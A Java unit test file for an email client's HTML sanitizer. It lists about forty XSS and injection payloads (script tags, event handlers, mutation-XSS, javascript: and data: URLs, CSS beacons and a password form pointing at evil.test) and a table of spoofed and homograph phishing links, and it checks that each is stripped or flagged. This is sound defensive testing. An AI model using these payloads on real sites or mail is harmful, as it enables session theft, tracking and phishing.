package org.postern.web.mime;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.postern.message.LinearWork;
import org.postern.message.mime.InlineImages;
import org.postern.message.text.HtmlToText;

class HtmlSanitizerTest {
    private final HtmlSanitizer sanitizer = new HtmlSanitizer();

    private static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>x",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
            "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<title><img src=x onerror=alert(1)></title>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<a href=\" &#14; javascript:alert(1)\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<a href=\"vbscript:x\">x</a>",
            "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
            "<base href='https://evil.test/'>",
            "<link rel=stylesheet href='https://evil.test/x.css'>",
            "<link rel=dns-prefetch href='//evil.test'>",
            "<style>@import url(https://evil.test/); input[value^=a]{background:url(https://evil.test/a)}</style>",
            "<div style=\"background:url(https://evil.test/x)\">x</div>",
            "<div style=\"background-image:url('https://evil.test/x')\">x</div>",
            "<div style=\"width:expression(alert(1))\">x</div>",
            "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">x</div>",
            "<div style=\"list-style:url(https://evil.test/x)\">x</div>",
            "<div style=\"font-family:'x';behavior:url(#x)\">x</div>",
            "<iframe src=https://evil.test/></iframe>",
            "<object data=https://evil.test/></object><embed src=https://evil.test/>",
            "<form action=https://evil.test/><input name=password><button>Go</button></form>",
            "<video poster=https://evil.test/ src=https://evil.test/v></video><audio src=https://evil.test/>",
            "<input type=image src=https://evil.test/>",
            "<table background=https://evil.test/><tr><td background=https://evil.test/>x</table>",
            "<body background=https://evil.test/ onload=alert(1)>",
            "<img srcset='https://evil.test/ 2x' src='http://evil.test/x.png'>",
            "<img src='//evil.test/x.png'>",
            "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
            "<img src='data:text/html;base64,PHNjcmlwdD4='>",
            "<a ping=https://evil.test/ href=mailto:a@x.test>x</a>",
            "<!--[if IE]><script>alert(1)</script><![endif]-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<xmp><script>alert(1)</script></xmp>",
            "<template><script>alert(1)</script></template>",
            "<p id=__proto__ name=body class=x>x</p>");

    @Test
    void nothingHostileIsLeftAndNothingRemote() {
        for (String html : HOSTILE) {
            String safe =
                    sanitizer.sanitize(html, InlineImages.NONE, false).html().toLowerCase(Locale.ROOT);
            String markup = safe.replaceAll("title=\"[^\"]*\"", "")
                    .replaceAll("(?s)(^|>)[^<]*", "$1") // escaped text and titles are harmless
                    .replace(" class=\"mail-body\"", "");
            assertThat(markup)
                    .as(html)
                    .doesNotContain("evil.test", "script", "onerror", "onload", "javascript", "<svg", "<math", "<style")
                    .doesNotContain(
                            "<form", "<input", "<button", "<meta", "<base", "<link", "<iframe", "<object", "<embed")
                    .doesNotContain("position", "z-index", "url(", "expression", "behavior", "srcset", "background=")
                    .doesNotContain(" id=", " name=", " class=", "ping=", "data:");
        }
    }

    @Test
    void remoteImagesAreCountedAndShownOnlyWhenAskedAndOnlyOverHttps() {
        String html = "<img src='https://img.test/a.png'><img src='http://img.test/b.png'><img src='cid:x'>";
        SafeHtml blocked = sanitizer.sanitize(html, InlineImages.NONE, false);
        assertThat(blocked.html()).doesNotContain("img.test");
        assertThat(blocked.blockedImages()).isEqualTo(2);
        SafeHtml shown = sanitizer.sanitize(html, InlineImages.NONE, true);
        assertThat(shown.html()).contains("https://img.test/a.png").doesNotContain("http://");
        assertThat(shown.blockedImages()).isEqualTo(1);
    }

    @Test
    void inlineImagesBecomeDataUris() {
        InlineImages images = id -> id.equals("logo@x") ? Optional.of("data:image/png;base64,AAAA") : Optional.empty();
        SafeHtml safe = sanitizer.sanitize("<img src='cid:logo@x'><img src='cid:other'>", images, false);
        assertThat(safe.html()).contains("data:image/png;base64,AAAA").doesNotContain("cid:");
        assertThat(safe.blockedImages()).isZero();
    }

    @Test
    void linksOpenOutsideAndTellNothing() {
        String safe = sanitizer
                .sanitize(
                        "<a href='https://x.test/a?b=1&c=2' target=_top rel=opener>go</a><a href='/mail'>in</a>",
                        InlineImages.NONE,
                        false)
                .html();
        assertThat(safe)
                .contains("href=\"https://x.test/a?b&#61;1&amp;c&#61;2\"")
                .contains("target=\"_blank\"", "rel=\"noopener noreferrer nofollow\"")
                .doesNotContain("_top", "\"opener", "/mail");
    }

    @Test
    void textThatNamesAnotherHostIsFlagged() {
        String[][] table = {
            {"https://evil.test/", "https://bank.test/login", "yes"},
            {"https://evil.test/", "bank.test", "yes"},
            {"https://bank.test@evil.test/", "www.bank.test", "yes"},
            {"https://evil.test\\@bank.test/", "bank.test", "yes"},
            {"https://www.bank.test/x", "bank.test", "no"},
            {"https://bank.test/x", "https://bank.test", "no"},
            {"https://evil.test/", "Click here", "no"},
            {"https://evil.test/", "Version 1.2", "no"},
            {"https://xn--80ak6aa92e.com/", "click", "yes"},
            {"https://p\u0430ypal.com/", "click", "yes"},
        };
        for (String[] row : table) {
            SafeHtml safe = sanitizer.sanitize("<a href='" + row[0] + "'>" + row[1] + "</a>", InlineImages.NONE, false);
            assertThat(safe.flaggedLinks()).as(row[0] + " " + row[1]).isEqualTo(row[2].equals("yes") ? 1 : 0);
        }
    }

    @Test
    void ordinaryMailKeepsItsLook() {
        String html =
                "<table width='600' cellpadding='0'><tr><td style='color:#f00;padding:4px;text-align:center'><b>Hi</b>"
                        + "<br><font color='red' size='2'>x</font></td></tr></table><blockquote>q</blockquote><ul><li>1</li></ul>";
        assertThat(sanitizer.sanitize(html, InlineImages.NONE, false).html())
                .contains("<table", "width=\"600\"", "color:#f00", "padding:4px", "text-align:center", "<b>Hi</b>")
                .contains("color=\"red\"", "<blockquote>q</blockquote>", "<li>1</li>");
    }

    @Test
    void hostileLengthsCostWhatTheyAre() {
        for (String unit : List.of(
                "<a ",
                "<",
                "<div>",
                "<!--",
                "&",
                "&#",
                "<a href='",
                "<b style='color:",
                "</p>",
                "<table>",
                "<![CDATA[",
                "<a href=x>",
                "<p title=\"",
                " ")) {
            int count = 60_000 / unit.length() + 1;
            SafeHtml safe =
                    LinearWork.of(count, unit::repeat, html -> sanitizer.sanitize(html, InlineImages.NONE, false));
            assertThat(safe.html()).as(unit).doesNotContain("<!--", "<![CDATA[");
            String text = LinearWork.of(count, unit::repeat, html -> HtmlToText.convert(html, 100_000));
            assertThat(text).as(unit).hasSizeLessThanOrEqualTo(100_000);
        }
    }
}
